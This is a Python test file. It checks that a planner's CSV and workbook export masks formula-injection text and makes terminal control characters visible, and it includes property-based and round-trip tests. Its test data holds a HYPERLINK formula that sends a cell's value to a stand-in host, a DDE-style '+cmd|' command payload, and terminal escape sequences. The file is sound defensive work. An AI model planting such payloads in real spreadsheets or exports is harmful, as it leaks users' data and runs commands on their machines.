"""Texts that a spreadsheet would run, or that would write over a terminal: disarmed in every file, and read back."""

import csv
import io
from pathlib import Path

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from planner.errors import one_line
from planner.inputs import read, scenario_files
from planner.schema.spreadsheet import masked, unmasked
from tests.inputs.folders import assert_same, codes_of, edited, good, write
from tests.inputs.workbooks import workbook_of

HOSTILE = {
    "a call": '=HYPERLINK("http://example.invalid/?"&A2,"x")',
    "a sum": "@SUM(1)",
    "plus": "+cmd|' /C calc'!A0",
    "minus": "-1+A1",
    "an apostrophe of its own": "'=1",
    "two apostrophes": "''=1",
    "behind the other separator": "a;=1+1",
    "behind a comma": "a,@SUM(1)",
    "a bullet": "- lyfta tungt",
    "wide": "\uff1d1+1",
}
PIECES = st.lists(st.sampled_from([*"=+-@';, \t\r\n1a", "\uff1d", "\u202e", "\x1b", "åäö"]), max_size=8).map("".join)


@settings(max_examples=500)
@given(PIECES)
@example("-5")
@example("'=1")
def test_what_is_masked_begins_no_formula_and_is_read_back(text: str) -> None:
    written = masked(text)
    assert unmasked(written) == one_line(text)
    for separator in ";,":
        for cell in written.split(separator):
            begins = cell.strip()
            assert begins[:1] not in {"=", "@", "\uff1d"}
            # What begins with a sign holds nothing to be looked up or called: digits, marks and blanks alone.
            assert begins[:1] not in {"+", "-"} or not set(begins) & set("aåäö=@'"), written


@pytest.mark.parametrize(
    "text", ["-5", "-5,5", "+46 70 123 45 67", "-1.5e-3", "100,-", "2026-11-23", "mån-fre", "-", "J1"]
)
def test_numbers_and_ids_stay_as_they_are(text: str) -> None:
    assert masked(text) == text


@pytest.mark.parametrize("name", HOSTILE)
def test_a_scenario_with_such_a_name_is_the_same_when_its_files_are_read_again(name: str, tmp_path: Path) -> None:
    text = HOSTILE[name].replace('"', '""')
    changed = edited("employers.csv", ("Köket i skolan", f'"{text}"')) | edited(
        "zones.csv", ("Norra stan", f'"{text}"')
    )
    first = read(good(tmp_path / "a", changed))
    files = dict(scenario_files(first, audit=True))
    assert_same(first, read(write(tmp_path / "b", files)))
    for cells in csv.reader(io.StringIO(files["employers.csv"].decode())):
        assert not any(cell.startswith(("=", "@", "+", "-", "\uff1d")) for cell in cells)


def test_a_name_is_read_alike_from_a_table_and_from_a_workbook_that_excel_saved_it_in(tmp_path: Path) -> None:
    sound = good(tmp_path / "a", edited("employers.csv", ("Köket i skolan", "'=1+1")))
    assert set(read(sound).tables["employers"]["name"]) == {"=1+1", "Parken, AB"}
    assert_same(read(sound), read(workbook_of(sound, tmp_path / "b")))


CONTROLS = {"C1": "\x9b2J", "right to left": "\u202etxt", "no width": "a\u200bb", "line": "a\nb", "tab": "a\tb"}


@pytest.mark.parametrize("control", CONTROLS)
def test_control_and_format_characters_of_names_are_made_visible_as_they_are_read(control: str, tmp_path: Path) -> None:
    said = CONTROLS[control]
    escaped = said.encode("unicode_escape").decode().replace("\\x", "\\u00")
    changed = edited("employers.csv", ("Köket i skolan", f'"{said}"'))
    changed |= edited("scenario.toml", ("Small and sound", escaped), ("köksspåret", escaped))
    scenario = read(good(tmp_path, changed))
    names = [scenario.name, scenario.tables["employers"]["name"][0], *(g.name_sv for g in scenario.groups.values())]
    assert names.count(one_line(said)) == 3
    assert all(name is None or name.isprintable() for name in names)
    own = [raw.decode() for name, raw in scenario_files(scenario) if not name.startswith("models/")]
    assert all(text.replace("\n", "").isprintable() for text in own)


def test_letters_of_two_parts_and_joined_pictures_survive() -> None:
    for text in ("A\u030angstro\u0308m", "\u2764\ufe0f\u200d\U0001f525", "smörgås"):
        assert one_line(text) == text
    assert one_line("a\r\nb\u2028c\u00a0d") == "a b c d"
    assert one_line("\x1b[2J\u00ad\u200f") == "\ufffd[2J\ufffd\ufffd"


def test_an_escape_in_a_table_makes_it_no_text(tmp_path: Path) -> None:
    assert codes_of(good(tmp_path, edited("employers.csv", ("Köket", "\x1b]0;x")))) == ["not-text"]
